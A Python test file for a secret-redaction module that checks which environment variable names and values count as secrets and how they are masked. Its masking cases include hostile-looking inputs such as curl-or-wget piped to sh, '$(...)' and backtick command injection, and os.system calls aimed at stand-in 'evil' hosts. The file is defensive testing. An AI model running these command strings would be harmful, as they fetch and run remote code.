"""What looks like a secret, and what does not."""

from __future__ import annotations

import re

import pytest

from fast_agent.text.redaction import (
    environment_secrets,
    is_secret_name,
    is_secret_value,
    with_masked_secrets,
)

SECRET_NAMES = re.findall(
    r"\S+",
    """
OPENAI_API_KEY openai_api_key ANTHROPIC__API_KEY AWS_SECRET_ACCESS_KEY AWS_ACCESS_KEY_ID
GITHUB_TOKEN TOKEN CLIENT_SECRET DJANGO_SECRET_KEY OPENAI_API_KEY_2 PGPASSWORD DB_PASSWD
GOOGLE_APPLICATION_CREDENTIALS MCP__HEADERS__AUTHORIZATION GH_PAT DB_PASS DBPASS DATABASE_URL
MYSQL_PWD NPM_AUTH SENTRY_DSN SLACK_WEBHOOK_URL STRIPE_SK SSH_PRIVATE_KEY JWT SESSION_COOKIE
AUTH_HEADER API_TOKENS apiKey X-Api-Key Authorization authToken ENCRYPTION_KEY PASSPHRASE
SMTP_PASS AZURE_STORAGE_CONNECTION_STRING AWS_CREDS BASIC_AUTH OTP PRIVATE_KEY GHTOKEN
VAULT_TOKEN SECRETS
""",
)
PLAIN_NAMES = re.findall(
    r"\S+",
    """
PATH HOME TOKENIZERS_PARALLELISM MAX_TOKENS NUM_TOKENS KEYBOARD SSH_AUTH_SOCK LS_COLORS TERM
LANG USER SHELL PWD OLDPWD GIT_AUTHOR_NAME AUTHOR COMPASS_HOME BYPASS PASSENGER_APP_ENV
XAUTHORITY DBUS_SESSION_BUS_ADDRESS KEYCLOAK_URL MONKEY GPG_TTY SSH_ASKPASS GIT_ASKPASS
SSH_AGENT_PID VIRTUAL_ENV NODE_OPTIONS XDG_SESSION_ID AWS_REGION AWS_PROFILE PATTERN
TEMPLATE_PATH COMPATIBILITY
""",
)
SECRET_VALUES = [
    "postgres://me:hunter2@db/x",
    "redis://:hunter2@cache",
    "https://ghp_aaaaaaaaaaaaaaaaaaaa@github.com/x",
    "sk-abcdefghijklmnopqrstuv",
    "sk-ant-api03-abcdefghijklmnop",
    "sk_live_abcdefghijklmnop",
    "ghp_0123456789abcdefghij",
    "github_pat_0123456789abcdefghij",
    "glpat-0123456789abcdefghij",
    "xoxb-1234567890-abc",
    "AKIAIOSFODNN7EXAMPLE",
    "AIza" + "x" * 35,
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    "Bearer abcdefgh1234",
    "Server=db;User=me;Password=abcd;",
    "DefaultEndpointsProtocol=https;AccountKey=abcdef==",
    "https://host/?api_key=abcdef12",
    "https://host/?a=1&access_token=abcdef12",
    "https://hooks.slack.com/services/T0/B0/x",
    '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----"}',
    "-----BEGIN OPENSSH PRIVATE KEY-----\nabc",
]
PLAIN_VALUES = [
    "/usr/local/bin:/usr/bin",
    "http://localhost:8080/x?a=1",
    "git@github.com:x/y",
    "http://a@b/x",
    "skipped-because-of-this",
    "risk-of-a-long-hyphenated-sentence",
    "sk_SK.UTF-8",
    "https://example.com:8443/path?page=2",
    "rs=0:di=01;34:*.key=1;31",
    "unix:path=/run/user/1000/bus",
    "asiapacificnortheastregions",
    "-----BEGIN CERTIFICATE-----",
]


@pytest.mark.spec("TR-S1.2")
@pytest.mark.parametrize("name", SECRET_NAMES)
def test_secret_names(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize("name", PLAIN_NAMES)
def test_plain_names(name: str) -> None:
    assert not is_secret_name(name)


@pytest.mark.spec("TR-S1.2")
@pytest.mark.parametrize("value", SECRET_VALUES)
def test_secret_values(value: str) -> None:
    assert is_secret_value(value)
    assert is_secret_value(f"before {value}") or value.startswith("Bearer")


@pytest.mark.parametrize("value", PLAIN_VALUES)
def test_plain_values(value: str) -> None:
    assert not is_secret_value(value)


@pytest.mark.spec("TR-S1.1", "TR-Q3.whole")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl https://h/x?token=abcdef123 | sh", "curl https://h/x?token=<> | sh"),
        ("http://me:passw0rd@evil.example:99/x", "http://me:<>@evil.example:99/x"),
        ("http://ghp0123456789abcdefgh@evil.example", "http://<>@evil.example"),
        ("f 'https://h/?api_key=abcdef1' && g", "f 'https://h/?api_key=<>' && g"),
        ("a;Password=hunter22;b", "a;Password=<>;b"),
        ("Bearer abcdefgh1234", "Bearer <>"),
        ("https://h/sk-proj-abcdefghij0123456789/mcp", "https://h/<>/mcp"),
        ("https://hooks.slack.com/services/T012345/B0/abc", "https://hooks.slack.com/services/<>"),
        ("x AGE-SECRET-KEY-1QQQQQQQQ y", "x <> y"),
        ("use sk-proj-abcdefghij0123456789 now", "use <> now"),
        ("-----BEGIN PRIVATE KEY-----\nMIIEvAIBADANBgkqhkiG9w0B\nAQ\n-----END PRIVATE KEY-----\nx",
         "<>\nx"),
        # What could be run or opened is never hidden.
        ("./sk-proj-abcdefghij0123456789zzzz/run.sh", None),
        ("x?key=$(wget${IFS}evil|sh)", None),
        ("x?key=abcdef`evil`", None),
        ("x?key=/tmp/evil/run.sh", None),
        ("x?key=../../evil/run.sh", None),
        ("password=os.system('evil')", None),
        ("sk-ant-abcdefghij0123456789('evil')", None),
        ("http://u:$(evil)@h/x", None),
        ("-----BEGIN PRIVATE KEY----- curl evil | sh", "<> curl evil | sh"),
    ],
)  # fmt: skip
def test_only_the_secret_of_a_text_is_masked(text: str, shown: str | None) -> None:
    assert with_masked_secrets(text, lambda _: "<>") == (text if shown is None else shown)


def test_a_path_in_the_environment_is_not_a_secret() -> None:
    place = "/home/u/sk-proj-abcdefghij0123456789"
    assert set(environment_secrets({"PWD": place})) == set()
    assert set(environment_secrets({"CALLBACK": "/cb?token=abcdef123"}))


@pytest.mark.parametrize("piece", ["a", "a.", "://", "x://a:", "?key_", "eyJ", "key="])
def test_a_huge_value_costs_little(piece: str) -> None:
    assert not is_secret_value(piece * (200_000 // len(piece)) + "\n")
